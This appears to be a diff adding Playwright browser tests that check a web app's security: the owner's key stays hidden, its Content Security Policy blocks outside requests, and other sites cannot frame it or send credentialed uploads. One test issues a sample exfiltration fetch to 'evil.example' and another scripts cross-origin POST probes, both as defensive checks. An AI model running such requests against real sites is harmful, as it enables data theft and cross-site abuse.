@@ -1,0 +1,93 @@
+"""What a browser lets the page do: its policy, the owner's key, and frames of other sites."""
+
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import expect
+
+from dnd_engine.library import Library
+from tests.browser.conftest import Serve, Visits
+from tests.ui.fake_engine import FakeEngine, slow_load
+from ui.engine_handle import EngineHandle
+from ui.owner import Owner
+
+pytestmark = pytest.mark.browser
+
+
+def test_the_key_opens_the_owners_library_and_a_page_without_it_says_how(
+    visits: Visits, serve: Serve, tmp_path: Path
+) -> None:
+    owner = Owner(Library(tmp_path / "library"))
+    url = serve(EngineHandle(slow_load(FakeEngine(), 0.01)), owner=owner)
+    mine, strangers = visits(url, owner), visits(url)
+    mine.page.locator("#dnd-example-sql").click()
+    mine.synthesize()
+    mine.page.locator("#dnd-take-open").click()
+    mine.page.locator("#dnd-keep-now").click()
+    expect(mine.page.locator("#dnd-keep-told")).to_contain_text("Kept in the library")
+    assert len(owner.library.entries()) == 1
+    for visit in (mine, strangers):
+        visit.page.get_by_role("tab", name="Library").click()
+    told = strangers.page.locator("#dnd-library-told")
+    expect(told).to_contain_text("the address that the app printed")
+    expect(mine.page.locator("#dnd-kept input")).to_have_count(1)
+    expect(strangers.page.locator("#dnd-kept input")).to_have_count(0)
+    assert owner.key not in mine.page.url
+    assert owner.key not in mine.page.content()
+    assert owner.key not in mine.page.evaluate("document.cookie"), "scripts do not see it"
+
+
+def test_the_page_works_under_its_policy_which_stops_requests_to_elsewhere(visits: Visits) -> None:
+    """Every visit fails that logs an error; here one is provoked, to see that it would be."""
+    visit = visits()
+    visit.page.locator("#dnd-example-sql").click()
+    visit.synthesize()
+    visit.ask("What?")
+    visit.idle()
+    assert visit.console == []
+    reached = visit.page.evaluate(
+        "fetch('https://evil.example/?stolen').then(() => 'reached', () => 'stopped')"
+    )
+    assert reached == "stopped"
+    assert any("Content Security Policy" in said for said in visit.console)
+    visit.console.clear()
+
+
+def test_another_site_can_neither_frame_the_page_nor_call_it(visits: Visits, serve: Serve) -> None:
+    engine = FakeEngine()
+    there = serve(EngineHandle(slow_load(engine, 0.01)))
+    here = visits()  # another port of the same computer
+    page = here.page
+    page.route("**/trap", lambda route: route.fulfill(content_type="text/html", body="<p>trap</p>"))
+    page.goto(f"{here.url}/trap")
+    page.evaluate(
+        """url => new Promise(done => {
+            const frame = document.createElement("iframe");
+            frame.onload = done;
+            frame.src = url;
+            document.body.append(frame);
+        })""",
+        there,
+    )
+    framed = page.frames[1]
+    assert framed.locator(".dnd-bucket").count() == 0
+    answers = page.evaluate(
+        """async url => {
+            const body = new FormData();
+            body.append("files", new Blob(["x"]), "a.txt");
+            const writes = {method: "POST", credentials: "include"};
+            const said = [];
+            for (const [path, options] of [
+                ["/config", {credentials: "include"}],
+                ["/gradio_api/upload", {...writes, body}],
+                ["/gradio_api/upload", {...writes, body, mode: "no-cors"}],
+            ]) said.push(await fetch(url + path, options).then(r => r.type, () => "stopped"));
+            return said;
+        }""",
+        there,
+    )
+    # What no-cors sends arrives, and is refused there.
+    assert answers[:2] == ["stopped", "stopped"]
+    assert answers[2] in ("stopped", "opaque")
+    here.console.clear()
+    here.outside.clear()
